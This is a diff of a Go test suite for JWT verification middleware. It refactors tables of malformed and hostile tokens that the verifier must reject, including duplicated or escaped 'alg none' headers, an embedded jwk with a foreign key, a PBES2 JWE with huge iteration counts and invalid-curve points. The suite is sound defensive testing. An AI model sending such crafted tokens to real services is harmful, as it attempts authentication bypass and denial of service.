@@ -41,41 +41,41 @@ func TestSerialization(t *testing.T) {
 	}
 	ps := strings.Split(padded.token(), ".")
 	dots := func(n int) string { return strings.Repeat(".", n) }
-	w.refuses(t, []hostile{
-		{"J-01 one segment", part[0], malformed, ""},
-		{"J-01 ATK-A04 two segments", part[0] + "." + part[1], malformed, ""},
-		{"J-01 four segments", token + ".AAAA", malformed, ""},
-		{"J-01 P-06 five segments", token + ".AAAA.AAAA", malformed, ""},
-		{"J-01 a dot after it", token + ".", malformed, ""},
-		{"J-01 a dot before it", "." + token, malformed, ""},
-		{"J-01 two dots in it", part[0] + ".." + part[1] + "." + part[2], malformed, ""},
-		{"J-01 no header", "." + part[1] + "." + part[2], malformed, ""},
-		{"J-01 U-01 no payload", part[0] + ".." + part[2], malformed, ""},
-		{"J-01 ATK-A04 no signature", part[0] + "." + part[1] + ".", badSignature, ""},
-		{"J-01 nothing but dots", "..", malformed, ""},
-		{"ATK-K01 many dots", dots(10_000), malformed, ""},
-		{"J-02 P-20 ATK-C11 flattened JSON, encoded", base64.RawURLEncoding.EncodeToString([]byte(flat)), malformed, ""},
-		{"J-02 ATK-A27 ATK-C11 general JSON, encoded", base64.RawURLEncoding.EncodeToString([]byte(general)), malformed, ""},
-		{"J-03 ATK-C10 a padded header", ps[0] + "=." + ps[1] + "." + ps[2], middleware.ErrMalformedRequest, padded.token()},
-		{"J-03 ATK-C10 a padded signature", token + "==", malformed, ""},
-		{"J-03 ATK-C10 the other alphabet", swapAlphabet(good()), malformed, ""},
-		{"J-03 ATK-C10 a length that no encoding has", token + strings.Repeat("A", (5-len(part[2])%4)%4), malformed, ""},
-		{"J-04 ATK-C10 ATK-A14 ATK-G08 unused bits in the signature", part[0] + "." + part[1] + "." + loose(part[2]), malformed, token},
-		{"J-04 ATK-C10 unused bits in the payload", signInput("ec", "ES256", ps[0]+"."+loose(ps[1])), malformed, padded.token()},
-		{"J-04 ATK-C10 unused bits in the header", signInput("ec", "ES256", loose(ps[0])+"."+ps[1]), malformed, padded.token()},
-		{"P-20 J-03 a tilde", part[0] + "~." + part[1] + "." + part[2], malformed, ""},
-		{"P-20 a plus", part[0] + "+AAA." + part[1] + "." + part[2], malformed, ""},
-		{"T-16 P-05 P-06 ATK-C12 ATK-C13 a JWE around a token", encryptedForm(good().token(), `{"alg":"RSA-OAEP","enc":"A256GCM","cty":"JWT","kid":"rsa"}`), malformed, ""},
-		{"P-09 ATK-K04 a compressed JWE", encryptedForm("x", `{"alg":"dir","enc":"A256GCM","zip":"DEF"}`), malformed, ""},
-		{"P-19 ATK-K03 a JWE with a million rounds", encryptedForm("x", `{"alg":"PBES2-HS512+A256KW","enc":"A256GCM","p2c":2147483647,"p2s":"AAAA"}`), malformed, ""},
-		{"ATK-K05 ATK-K10 a JWE with a point that is none", encryptedForm("x", `{"alg":"ECDH-ES","enc":"A256GCM","epk":{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}}`), malformed, ""},
+	w.rejectsAll(t, []hostile{
+		{"one segment", "J-01", part[0], malformed, ""},
+		{"two segments", "J-01 ATK-A04", part[0] + "." + part[1], malformed, ""},
+		{"four segments", "J-01", token + ".AAAA", malformed, ""},
+		{"five segments", "J-01 P-06", token + ".AAAA.AAAA", malformed, ""},
+		{"a dot after it", "J-01", token + ".", malformed, ""},
+		{"a dot before it", "J-01", "." + token, malformed, ""},
+		{"two dots in it", "J-01", part[0] + ".." + part[1] + "." + part[2], malformed, ""},
+		{"no header", "J-01", "." + part[1] + "." + part[2], malformed, ""},
+		{"no payload", "J-01 U-01", part[0] + ".." + part[2], malformed, ""},
+		{"no signature", "J-01 ATK-A04", part[0] + "." + part[1] + ".", badSignature, ""},
+		{"only dots", "J-01", "..", malformed, ""},
+		{"many dots", "ATK-K01", dots(10_000), malformed, ""},
+		{"flattened JSON, encoded", "J-02 P-20 ATK-C11", base64.RawURLEncoding.EncodeToString([]byte(flat)), malformed, ""},
+		{"general JSON, encoded", "J-02 ATK-A27 ATK-C11", base64.RawURLEncoding.EncodeToString([]byte(general)), malformed, ""},
+		{"a padded header", "J-03 ATK-C10", ps[0] + "=." + ps[1] + "." + ps[2], middleware.ErrMalformedRequest, padded.token()},
+		{"a padded signature", "J-03 ATK-C10", token + "==", malformed, ""},
+		{"the other alphabet", "J-03 ATK-C10", swapAlphabet(good()), malformed, ""},
+		{"a length that no encoding has", "J-03 ATK-C10", token + strings.Repeat("A", (5-len(part[2])%4)%4), malformed, ""},
+		{"unused bits in the signature", "J-04 ATK-C10 ATK-A14 ATK-G08", part[0] + "." + part[1] + "." + loose(part[2]), malformed, token},
+		{"unused bits in the payload", "J-04 ATK-C10", signInput("ec", "ES256", ps[0]+"."+loose(ps[1])), malformed, padded.token()},
+		{"unused bits in the header", "J-04 ATK-C10", signInput("ec", "ES256", loose(ps[0])+"."+ps[1]), malformed, padded.token()},
+		{"a tilde", "P-20 J-03", part[0] + "~." + part[1] + "." + part[2], malformed, ""},
+		{"a plus", "P-20", part[0] + "+AAA." + part[1] + "." + part[2], malformed, ""},
+		{"a JWE around a token", "T-16 P-05 P-06 ATK-C12 ATK-C13", encryptedForm(good().token(), `{"alg":"RSA-OAEP","enc":"A256GCM","cty":"JWT","kid":"rsa"}`), malformed, ""},
+		{"a compressed JWE", "P-09 ATK-K04", encryptedForm("x", `{"alg":"dir","enc":"A256GCM","zip":"DEF"}`), malformed, ""},
+		{"a JWE with a million rounds", "P-19 ATK-K03", encryptedForm("x", `{"alg":"PBES2-HS512+A256KW","enc":"A256GCM","p2c":2147483647,"p2s":"AAAA"}`), malformed, ""},
+		{"a JWE with a point off its curve", "ATK-K05 ATK-K10", encryptedForm("x", `{"alg":"ECDH-ES","enc":"A256GCM","epk":{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}}`), malformed, ""},
 	})
-	row(t, "ATK-C18 J-02 P-20 braces, quotes, wrapping", func(t *testing.T) {
+	row(t, "braces, quotes, wrapping", "ATK-C18 J-02 P-20", func(t *testing.T) {
 		for _, token := range []string{flat, general, `"` + token + `"`, "{" + token + "}", "[" + token + "]", "<" + token + ">"} {
-			w.refused(t, bearing(token), middleware.ErrMalformedRequest)
+			w.rejects(t, bearing(token), middleware.ErrMalformedRequest)
 		}
 	})
-	row(t, "J-03 ATK-C09 no line break gets through Verify either", func(t *testing.T) {
+	row(t, "Verify rejects line breaks too", "J-03 ATK-C09", func(t *testing.T) {
 		for i := 1; i < len(token); i += 7 {
 			for _, sep := range []string{"\n", "\r", "\r\n", " ", "\t"} {
 				if _, err := w.auth.Verify(t.Context(), token[:i]+sep+token[i:]); reasonOf(err) != malformed {
@@ -87,7 +87,7 @@ func TestSerialization(t *testing.T) {
 			t.Error(err)
 		}
 	})
-	row(t, "ATK-C19 ATK-K05 every cut of a token and every changed character", func(t *testing.T) {
+	row(t, "every cut of a token and every changed character", "ATK-C19 ATK-K05", func(t *testing.T) {
 		for i := range token {
 			for _, hostile := range []string{token[:i], token[i+1:], token[:i] + token[i+1:], token[:i] + string(token[i]^1) + token[i+1:], token[:i] + "." + token[i:]} {
 				if _, err := w.auth.Verify(t.Context(), hostile); err == nil {
@@ -96,24 +96,24 @@ func TestSerialization(t *testing.T) {
 			}
 		}
 	})
-	row(t, "J-18 what was received is what is verified", func(t *testing.T) {
+	row(t, "the signature covers the received bytes", "J-18", func(t *testing.T) {
 		d := good().rawHeader("{ \"kid\":\"\\u0065c\" ,\r\n\t\"typ\" : \"at+jwt\",\"alg\":\"ES256\"}  ").rawClaims(" " + strings.ReplaceAll(good().claims.String(), ",", " ,\n"))
-		w.served(t, bearing(d.token()), "odd white space")
+		w.serves(t, bearing(d.token()), "odd white space")
 		p := strings.Split(d.token(), ".")
-		w.refused(t, bearing(b64url([]byte(good().header.String()))+"."+p[1]+"."+p[2]), badSignature)
+		w.rejects(t, bearing(b64url([]byte(good().header.String()))+"."+p[1]+"."+p[2]), badSignature)
 	})
-	row(t, "ATK-K02 ATK-K01 ATK-H24 long tokens are not read", func(t *testing.T) {
+	row(t, "long tokens are not read", "ATK-K02 ATK-K01 ATK-H24", func(t *testing.T) {
 		long := good().claim("x", quoted(strings.Repeat("x", 200_000))).token()
 		for _, token := range []string{long, strings.Repeat("a", 1<<20), dots(1 << 20), strings.Repeat("a", 1<<20) + ".b.c"} {
-			w.refused(t, bearing(token), malformed)
+			w.rejects(t, bearing(token), malformed)
 		}
 		fits := good().claim("x", quoted(strings.Repeat("x", 11_000))).token()
-		w.served(t, bearing(fits), "16,000 bytes")
+		w.serves(t, bearing(fits), "16,000 bytes")
 	})
 }
 
-// swapAlphabet returns a token, with a good signature over what it says, that
-// has a slash where base64url has an underscore.
+// swapAlphabet returns a token whose signature has a slash where base64url has an
+// underscore.
 func swapAlphabet(d draft) string {
 	input := d.claim("x", `"???>>>~~~"`).input()
 	return signInput("ec", "ES256", strings.NewReplacer("_", "/", "-", "+").Replace(input))
@@ -132,119 +132,122 @@ func TestHeader(t *testing.T) {
 	deep := func(n int) string {
 		return strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n)
 	}
-	w.refuses(t, []hostile{
-		{"J-05 T-03 a header that is an array", raw(`[{"alg":"ES256"}]`), malformed, ""},
-		{"J-05 a string", raw(`"ES256"`), malformed, ""},
-		{"J-05 null", raw(`null`), malformed, ""},
-		{"J-05 J-23 ATK-C16 no JSON", raw(`{alg:"ES256"}`), malformed, ""},
-		{"J-05 J-23 ATK-C16 single quotes", raw(`{'alg':'ES256'}`), malformed, ""},
-		{"J-05 J-23 ATK-C16 a comma too many", raw(`{"alg":"ES256","kid":"ec",}`), malformed, ""},
-		{"J-05 J-23 ATK-C16 a comment", raw(`{"alg":"ES256"/**/,"kid":"ec"}`), malformed, ""},
-		{"J-05 J-23 half an object", raw(`{"alg":"ES256","kid":"ec"`), malformed, ""},
-		{"J-05 ATK-C05 a second value", raw(g.header.String() + "{}"), malformed, ""},
-		{"J-05 ATK-C05 something after it", raw(g.header.String() + "x"), malformed, ""},
-		{"J-05 ATK-C05 NUL after it", raw(g.header.String() + "\x00"), malformed, ""},
-		{"J-05 P-10 ATK-C07 a byte order mark", raw("\ufeff" + g.header.String()), malformed, ""},
-		{"J-05 P-10 ATK-C07 sixteen-bit text", raw(utf16(g.header.String())), malformed, ""},
-		{"J-05 P-10 ATK-C06 invalid UTF-8", g.head("x", "\"\xff\"").token(), malformed, g.head("x", `"é"`).token()},
-		{"J-05 P-10 ATK-C06 UTF-8 in too many bytes", g.head("x", "\"\xc1\xa1\"").token(), malformed, ""},
-		{"J-21 ATK-C06 half a surrogate pair", g.head("x", `"\ud800"`).token(), malformed, g.head("x", `"\ud83d\ude00"`).token()},
-		{"J-05 ATK-C08 nesting 33 deep", g.head("x", deep(32)).token(), malformed, g.head("x", deep(31)).token()},
-		{"J-05 ATK-C17 a number out of range", g.head("x", "1e999").token(), malformed, g.head("x", "1e308").token()},
-		{"J-05 ATK-C17 an endless exponent", g.head("x", "1e1000000000").token(), malformed, ""},
+	w.rejectsAll(t, []hostile{
+		{"a header that is an array", "J-05 T-03", raw(`[{"alg":"ES256"}]`), malformed, ""},
+		{"a string", "J-05", raw(`"ES256"`), malformed, ""},
+		{"null", "J-05", raw(`null`), malformed, ""},
+		{"no JSON", "J-05 J-23 ATK-C16", raw(`{alg:"ES256"}`), malformed, ""},
+		{"single quotes", "J-05 J-23 ATK-C16", raw(`{'alg':'ES256'}`), malformed, ""},
+		{"a comma too many", "J-05 J-23 ATK-C16", raw(`{"alg":"ES256","kid":"ec",}`), malformed, ""},
+		{"a comment", "J-05 J-23 ATK-C16", raw(`{"alg":"ES256"/**/,"kid":"ec"}`), malformed, ""},
+		{"half an object", "J-05 J-23", raw(`{"alg":"ES256","kid":"ec"`), malformed, ""},
+		{"a second value", "J-05 ATK-C05", raw(g.header.String() + "{}"), malformed, ""},
+		{"something after it", "J-05 ATK-C05", raw(g.header.String() + "x"), malformed, ""},
+		{"NUL after it", "J-05 ATK-C05", raw(g.header.String() + "\x00"), malformed, ""},
+		{"a byte order mark", "J-05 P-10 ATK-C07", raw("\ufeff" + g.header.String()), malformed, ""},
+		{"sixteen-bit text", "J-05 P-10 ATK-C07", raw(utf16(g.header.String())), malformed, ""},
+		{"invalid UTF-8", "J-05 P-10 ATK-C06", g.head("x", "\"\xff\"").token(), malformed, g.head("x", `"é"`).token()},
+		{"UTF-8 in too many bytes", "J-05 P-10 ATK-C06", g.head("x", "\"\xc1\xa1\"").token(), malformed, ""},
+		{"half a surrogate pair", "J-21 ATK-C06", g.head("x", `"\ud800"`).token(), malformed, g.head("x", `"\ud83d\ude00"`).token()},
+		{"nesting 33 deep", "J-05 ATK-C08", g.head("x", deep(32)).token(), malformed, g.head("x", deep(31)).token()},
+		{"a number out of range", "J-05 ATK-C17", g.head("x", "1e999").token(), malformed, g.head("x", "1e308").token()},
+		{"an endless exponent", "J-05 ATK-C17", g.head("x", "1e1000000000").token(), malformed, ""},
 
-		{"J-06 ATK-C03 alg twice", g.alsoHead(`"alg"`, `"ES256"`).token(), malformed, ""},
-		{"J-06 ATK-C03 alg twice, none first", g.firstHead(`"alg"`, `"none"`).token(), malformed, ""},
-		{"J-06 ATK-C04 alg twice, once by escapes", g.firstHead(`"\u0061lg"`, `"none"`).token(), malformed, ""},
-		{"J-06 ATK-C03 kid twice", g.alsoHead(`"kid"`, `"ec"`).token(), malformed, ""},
-		{"J-06 ATK-C03 typ twice", g.alsoHead(`"typ"`, `"at+jwt"`).token(), malformed, ""},
-		{"J-06 ATK-C03 anything twice", g.alsoHead(`"x"`, "1").alsoHead(`"x"`, "1").token(), malformed, g.alsoHead(`"x"`, "1").token()},
-		{"J-06 ATK-C03 twice within", g.head("x", `{"a":1,"a":1}`).token(), malformed, g.head("x", `{"a":1}`).token()},
-		{"J-07 ATK-C01 Alg beside alg", g.alsoHead(`"Alg"`, `"none"`).token(), malformed, ""},
-		{"J-07 ATK-C01 ALG alone", g.head("alg", "").alsoHead(`"ALG"`, `"ES256"`).token(), malformed, ""},
-		{"J-07 ATK-C01 Kid beside kid", g.alsoHead(`"Kid"`, `"foreign-ec"`).token(), malformed, ""},
-		{"J-07 ATK-C01 KID alone", g.head("kid", "").alsoHead(`"KID"`, `"ec"`).token(), malformed, ""},
-		{"J-07 ATK-C02 the Kelvin sign", g.alsoHead(`"\u212aid"`, `"foreign-ec"`).token(), malformed, ""},
-		{"J-07 ATK-C01 Typ", g.alsoHead(`"Typ"`, `"JWT"`).token(), malformed, ""},
-		{"J-07 ATK-C01 Crit", g.alsoHead(`"Crit"`, `["x"]`).token(), malformed, ""},
-		{"J-07 ATK-C01 two of a name in other cases", g.alsoHead(`"x"`, `1`).alsoHead(`"X"`, "1").token(), malformed, g.alsoHead(`"x"`, `1`).token()},
+		{"alg twice", "J-06 ATK-C03", g.alsoHead(`"alg"`, `"ES256"`).token(), malformed, ""},
+		{"alg twice, none first", "J-06 ATK-C03", g.firstHead(`"alg"`, `"none"`).token(), malformed, ""},
+		{"alg twice, once by escapes", "J-06 ATK-C04", g.firstHead(`"\u0061lg"`, `"none"`).token(), malformed, ""},
+		{"kid twice", "J-06 ATK-C03", g.alsoHead(`"kid"`, `"ec"`).token(), malformed, ""},
+		{"typ twice", "J-06 ATK-C03", g.alsoHead(`"typ"`, `"at+jwt"`).token(), malformed, ""},
+		{"anything twice", "J-06 ATK-C03", g.alsoHead(`"x"`, "1").alsoHead(`"x"`, "1").token(), malformed, g.alsoHead(`"x"`, "1").token()},
+		{"twice within", "J-06 ATK-C03", g.head("x", `{"a":1,"a":1}`).token(), malformed, g.head("x", `{"a":1}`).token()},
+		{"Alg in addition to alg", "J-07 ATK-C01", g.alsoHead(`"Alg"`, `"none"`).token(), malformed, ""},
+		{"ALG alone", "J-07 ATK-C01", g.head("alg", "").alsoHead(`"ALG"`, `"ES256"`).token(), malformed, ""},
+		{"Kid in addition to kid", "J-07 ATK-C01", g.alsoHead(`"Kid"`, `"foreign-ec"`).token(), malformed, ""},
+		{"KID alone", "J-07 ATK-C01", g.head("kid", "").alsoHead(`"KID"`, `"ec"`).token(), malformed, ""},
+		{"the Kelvin sign", "J-07 ATK-C02", g.alsoHead(`"\u212aid"`, `"foreign-ec"`).token(), malformed, ""},
+		{"Typ", "J-07 ATK-C01", g.alsoHead(`"Typ"`, `"JWT"`).token(), malformed, ""},
+		{"Crit", "J-07 ATK-C01", g.alsoHead(`"Crit"`, `["x"]`).token(), malformed, ""},
+		{"two of a name in other cases", "J-07 ATK-C01", g.alsoHead(`"x"`, `1`).alsoHead(`"X"`, "1").token(), malformed, g.alsoHead(`"x"`, `1`).token()},
 
-		{"J-09 ATK-A05 no alg", g.head("alg", "").token(), malformed, ""},
-		{"J-09 ATK-A05 alg null", g.head("alg", "null").token(), malformed, ""},
-		{"J-09 ATK-A05 alg a number", g.head("alg", "256").token(), malformed, ""},
-		{"J-09 ATK-A05 alg an array", g.head("alg", `["ES256"]`).token(), malformed, ""},
-		{"J-09 ATK-A05 alg an object", g.head("alg", `{"ES256":1}`).token(), malformed, ""},
-		{"J-09 ATK-A05 alg true", g.head("alg", `true`).token(), malformed, ""},
-		{"J-09 ATK-A02 alg empty", g.head("alg", `""`).token(), malformed, ""},
-		{"J-09 J-19 alg unknown", g.head("alg", `"XX999"`).token(), wrongAlgorithm, ""},
+		{"no alg", "J-09 ATK-A05", g.head("alg", "").token(), malformed, ""},
+		{"alg null", "J-09 ATK-A05", g.head("alg", "null").token(), malformed, ""},
+		{"alg a number", "J-09 ATK-A05", g.head("alg", "256").token(), malformed, ""},
+		{"alg an array", "J-09 ATK-A05", g.head("alg", `["ES256"]`).token(), malformed, ""},
+		{"alg an object", "J-09 ATK-A05", g.head("alg", `{"ES256":1}`).token(), malformed, ""},
+		{"alg true", "J-09 ATK-A05", g.head("alg", `true`).token(), malformed, ""},
+		{"alg empty", "J-09 ATK-A02", g.head("alg", `""`).token(), malformed, ""},
+		{"alg unknown", "J-09 J-19", g.head("alg", `"XX999"`).token(), wrongAlgorithm, ""},
 
-		{"J-13 ATK-B08 kid null", g.head("kid", "null").token(), malformed, ""},
-		{"J-13 ATK-B08 kid a number", g.head("kid", "1").token(), malformed, ""},
-		{"J-13 ATK-B08 kid true", g.head("kid", "true").token(), malformed, ""},
-		{"J-13 ATK-B08 kid an array", g.head("kid", `["ec"]`).token(), malformed, ""},
-		{"J-13 ATK-B08 kid an object", g.head("kid", `{"ec":1}`).token(), malformed, ""},
-		{"J-13 kid in another case", g.head("kid", `"EC"`).token(), unknownKey, ""},
-		{"J-13 kid with a space", g.head("kid", `"ec "`).token(), unknownKey, ""},
-		{"J-13 kid with NUL", g.head("kid", `"ec\u0000"`).token(), unknownKey, ""},
-		{"J-15 T-16 cty JWT", g.head("cty", `"JWT"`).token(), malformed, g.head("cty", `"application/json"`).token()},
-		{"J-15 T-16 cty application/jwt", g.head("cty", `"application/jwt"`).token(), malformed, ""},
-		{"J-15 cty no string", g.head("cty", `1`).token(), malformed, ""},
+		{"kid null", "J-13 ATK-B08", g.head("kid", "null").token(), malformed, ""},
+		{"kid a number", "J-13 ATK-B08", g.head("kid", "1").token(), malformed, ""},
+		{"kid true", "J-13 ATK-B08", g.head("kid", "true").token(), malformed, ""},
+		{"kid an array", "J-13 ATK-B08", g.head("kid", `["ec"]`).token(), malformed, ""},
+		{"kid an object", "J-13 ATK-B08", g.head("kid", `{"ec":1}`).token(), malformed, ""},
+		{"kid in another case", "J-13", g.head("kid", `"EC"`).token(), unknownKey, ""},
+		{"kid with a space", "J-13", g.head("kid", `"ec "`).token(), unknownKey, ""},
+		{"kid with NUL", "J-13", g.head("kid", `"ec\u0000"`).token(), unknownKey, ""},
+		{"cty JWT", "J-15 T-16", g.head("cty", `"JWT"`).token(), malformed, g.head("cty", `"application/json"`).token()},
+		{"cty application/jwt", "J-15 T-16", g.head("cty", `"application/jwt"`).token(), malformed, ""},
+		{"cty no string", "J-15", g.head("cty", `1`).token(), malformed, ""},
 
-		{"J-16 AT-05 ATK-C15 crit with an unknown name", g.head("crit", `["exp"]`).head("exp", "1").token(), malformed, g.head("exp", "1").token()},
-		{"J-16 ATK-C15 crit with a vendor's name", g.head("crit", `["http://example.com/X"]`).head("http://example.com/X", "true").token(), malformed, g.head("http://example.com/X", "true").token()},
-		{"J-17 ATK-C15 crit empty", g.head("crit", `[]`).token(), malformed, ""},
-		{"J-17 ATK-C15 crit null", g.head("crit", `null`).token(), malformed, ""},
-		{"J-17 ATK-C15 crit a string", g.head("crit", `"exp"`).token(), malformed, ""},
-		{"J-17 ATK-C15 crit a name twice", g.head("crit", `["x","x"]`).head("x", "1").token(), malformed, ""},
-		{"J-17 ATK-C15 crit a registered name", g.head("crit", `["alg"]`).token(), malformed, ""},
-		{"J-17 ATK-C15 crit a name that is not there", g.head("crit", `["x"]`).token(), malformed, ""},
-		{"J-17 ATK-C15 crit of numbers", g.head("crit", `[1]`).token(), malformed, ""},
-		{"J-17 ATK-C15 crit false", g.head("crit", `false`).token(), malformed, ""},
-		{"U-01 ATK-C14 b64 false, critical", g.head("b64", "false").head("crit", `["b64"]`).token(), malformed, ""},
-		{"U-01 ATK-C14 b64 false, critical, a payload as it is", signInput("ec", "ES256", strings.Split(g.head("b64", "false").head("crit", `["b64"]`).input(), ".")[0]+"."+b64url([]byte(g.claims.String()))), malformed, ""},
-		{"U-02 ATK-C14 b64 false", g.head("b64", "false").token(), malformed, ""},
-		{"U-02 ATK-C14 b64 true", g.head("b64", "true").token(), malformed, ""},
-		{"P-06 enc in three segments", g.head("enc", `"A256GCM"`).token(), malformed, ""},
-		{"P-09 zip in three segments", g.head("zip", `"DEF"`).token(), malformed, ""},
+		{"crit with an unknown name", "J-16 AT-05 ATK-C15", g.head("crit", `["exp"]`).head("exp", "1").token(), malformed, g.head("exp", "1").token()},
+		{"crit with a vendor's name", "J-16 ATK-C15", g.head("crit", `["http://example.com/X"]`).head("http://example.com/X", "true").token(), malformed, g.head("http://example.com/X", "true").token()},
+		{"crit empty", "J-17 ATK-C15", g.head("crit", `[]`).token(), malformed, ""},
+		{"crit null", "J-17 ATK-C15", g.head("crit", `null`).token(), malformed, ""},
+		{"crit a string", "J-17 ATK-C15", g.head("crit", `"exp"`).token(), malformed, ""},
+		{"crit a name twice", "J-17 ATK-C15", g.head("crit", `["x","x"]`).head("x", "1").token(), malformed, ""},
+		{"crit a registered name", "J-17 ATK-C15", g.head("crit", `["alg"]`).token(), malformed, ""},
+		{"crit a name that is not there", "J-17 ATK-C15", g.head("crit", `["x"]`).token(), malformed, ""},
+		{"crit of numbers", "J-17 ATK-C15", g.head("crit", `[1]`).token(), malformed, ""},
+		{"crit false", "J-17 ATK-C15", g.head("crit", `false`).token(), malformed, ""},
+		{"b64 false, critical", "U-01 ATK-C14", g.head("b64", "false").head("crit", `["b64"]`).token(), malformed, ""},
+		{"b64 false, critical, a payload as it is", "U-01 ATK-C14", signInput("ec", "ES256", strings.Split(g.head("b64", "false").head("crit", `["b64"]`).input(), ".")[0]+"."+b64url([]byte(g.claims.String()))), malformed, ""},
+		{"b64 false", "U-02 ATK-C14", g.head("b64", "false").token(), malformed, ""},
+		{"b64 true", "U-02 ATK-C14", g.head("b64", "true").token(), malformed, ""},
+		{"enc in three segments", "P-06", g.head("enc", `"A256GCM"`).token(), malformed, ""},
+		{"zip in three segments", "P-09", g.head("zip", `"DEF"`).token(), malformed, ""},
 
-		{"AT-01 P-17 P-18 ATK-D14 typ of a logout token", g.head("typ", `"logout+jwt"`).token(), notAccess, ""},
-		{"P-17 P-18 ATK-D14 typ of a DPoP proof", g.head("typ", `"dpop+jwt"`).token(), notAccess, ""},
-		{"P-17 P-18 typ of a security event", g.head("typ", `"secevent+jwt"`).token(), notAccess, ""},
-		{"P-17 P-18 ATK-D14 IN-15 typ of an introspection response", g.head("typ", `"token-introspection+jwt"`).token(), notAccess, ""},
-		{"P-17 P-18 typ of an entity statement", g.head("typ", `"entity-statement+jwt"`).token(), notAccess, ""},
-		{"P-17 P-18 typ of a request object", g.head("typ", `"oauth-authz-req+jwt"`).token(), notAccess, ""},
-		{"P-17 P-18 ATK-D14 typ of a client assertion", g.head("typ", `"client-authentication+jwt"`).token(), notAccess, ""},
-		{"P-17 typ rt+jwt", g.head("typ", `"rt+jwt"`).token(), notAccess, ""},
-		{"P-17 J-14 typ text/jwt", g.head("typ", `"text/jwt"`).token(), notAccess, ""},
-		{"P-17 J-14 typ with a parameter", g.head("typ", `"at+jwt; v=1"`).token(), notAccess, ""},
-		{"P-17 J-14 typ prefixed twice", g.head("typ", `"application/application/at+jwt"`).token(), notAccess, ""},
-		{"P-17 J-14 typ application/ and nothing more", g.head("typ", `"application/"`).token(), notAccess, ""},
-		{"AT-01 typ empty", g.head("typ", `""`).token(), malformed, ""},
-		{"AT-01 typ a number", g.head("typ", `1`).token(), malformed, ""},
-		{"AT-01 typ null", g.head("typ", `null`).token(), malformed, ""},
-		{"AT-01 typ an array", g.head("typ", `["at+jwt"]`).token(), malformed, ""},
+		{"typ of a logout token", "AT-01 P-17 P-18 ATK-D14", g.head("typ", `"logout+jwt"`).token(), notAccess, ""},
+		{"typ of a DPoP proof", "P-17 P-18 ATK-D14", g.head("typ", `"dpop+jwt"`).token(), notAccess, ""},
+		{"typ of a security event", "P-17 P-18", g.head("typ", `"secevent+jwt"`).token(), notAccess, ""},
+		{"typ of an introspection response", "P-17 P-18 ATK-D14 IN-15", g.head("typ", `"token-introspection+jwt"`).token(), notAccess, ""},
+		{"typ of an entity statement", "P-17 P-18", g.head("typ", `"entity-statement+jwt"`).token(), notAccess, ""},
+		{"typ of a request object", "P-17 P-18", g.head("typ", `"oauth-authz-req+jwt"`).token(), notAccess, ""},
+		{"typ of a client assertion", "P-17 P-18 ATK-D14", g.head("typ", `"client-authentication+jwt"`).token(), notAccess, ""},
+		{"typ rt+jwt", "P-17", g.head("typ", `"rt+jwt"`).token(), notAccess, ""},
+		{"typ text/jwt", "P-17 J-14", g.head("typ", `"text/jwt"`).token(), notAccess, ""},
+		{"typ with a parameter", "P-17 J-14", g.head("typ", `"at+jwt; v=1"`).token(), notAccess, ""},
+		{"typ prefixed twice", "P-17 J-14", g.head("typ", `"application/application/at+jwt"`).token(), notAccess, ""},
+		{"typ application/ and nothing more", "P-17 J-14", g.head("typ", `"application/"`).token(), notAccess, ""},
+		{"typ empty", "AT-01", g.head("typ", `""`).token(), malformed, ""},
+		{"typ a number", "AT-01", g.head("typ", `1`).token(), malformed, ""},
+		{"typ null", "AT-01", g.head("typ", `null`).token(), malformed, ""},
+		{"typ an array", "AT-01", g.head("typ", `["at+jwt"]`).token(), malformed, ""},
 	})
-	w.accepts(t, map[string]string{
-		"J-14 P-16 application/at+jwt": g.head("typ", `"application/at+jwt"`).token(),
-		"J-14 P-16 AT-01 at+JWT":       g.head("typ", `"at+JWT"`).token(),
-		"J-14 Application/AT+jwt":      g.head("typ", `"Application/AT+jwt"`).token(),
-		"CF-06 P-17 JWT":               g.head("typ", `"JWT"`).token(),
-		"CF-06 P-17 jwt":               g.head("typ", `"jwt"`).token(),
-		"CF-06 P-17 no typ":            g.head("typ", "").token(),
-		"J-08 unknown members":         g.head("vendor", `{"a":[1,2,{"b":null}]}`).head("x", `"y"`).token(),
-		"J-07 alg by escapes":          g.head("alg", `"\u0045S256"`).token(),
-		"J-07 the name alg by escapes": g.head("alg", "").alsoHead(`"\u0061lg"`, `"ES256"`).token(),
-		"J-12 x5t and x5t#S256":        g.head("x5t", `"AAAA"`).head("x5t#S256", `"AAAA"`).token(),
+	w.acceptsAll(t, []genuine{
+		{"application/at+jwt", "J-14 P-16", g.head("typ", `"application/at+jwt"`).token()},
+		{"at+JWT", "J-14 P-16 AT-01", g.head("typ", `"at+JWT"`).token()},
+		{"Application/AT+jwt", "J-14", g.head("typ", `"Application/AT+jwt"`).token()},
+		{"JWT", "CF-06 P-17", g.head("typ", `"JWT"`).token()},
+		{"jwt", "CF-06 P-17", g.head("typ", `"jwt"`).token()},
+		{"no typ", "CF-06 P-17", g.head("typ", "").token()},
+		{"unknown members", "J-08", g.head("vendor", `{"a":[1,2,{"b":null}]}`).head("x", `"y"`).token()},
+		{"alg by escapes", "J-07", g.head("alg", `"\u0045S256"`).token()},
+		{"the name alg by escapes", "J-07", g.head("alg", "").alsoHead(`"\u0061lg"`, `"ES256"`).token()},
+		{"x5t and x5t#S256", "J-12", g.head("x5t", `"AAAA"`).head("x5t#S256", `"AAAA"`).token()},
 	})
-	stranger := publicJWK("foreign-ec")
-	embedded, _ := json.Marshal(stranger)
+	otherKey := publicJWK("foreign-ec")
+	embedded, _ := json.Marshal(otherKey)
 	var injected []hostile
-	for name, d := range map[string]draft{
-		"J-11 ATK-B01 ATK-B02 jwk": g.head("jwk", string(embedded)),
-		"J-12 ATK-B02 x5c":         g.head("x5c", `["`+b64url([]byte("certificate"))+`"]`),
+	for _, c := range []struct {
+		name, ids string
+		d         draft
+	}{
+		{"jwk", "J-11 ATK-B01 ATK-B02", g.head("jwk", string(embedded))},
+		{"x5c", "J-12 ATK-B02", g.head("x5c", `["`+b64url([]byte("certificate"))+`"]`)},
 	} {
-		injected = append(injected, hostile{name + " of a stranger", d.by("foreign-ec", "ES256").token(), badSignature, d.token()},
-			hostile{name + " of a stranger, no kid", d.head("kid", "").by("foreign-ec", "ES256").token(), unknownKey, d.token()})
+		injected = append(injected, hostile{c.name + " with another key", c.ids, c.d.by("foreign-ec", "ES256").token(), badSignature, c.d.token()},
+			hostile{c.name + " with another key, no kid", c.ids, c.d.head("kid", "").by("foreign-ec", "ES256").token(), unknownKey, c.d.token()})
 	}
 	for _, url := range []string{
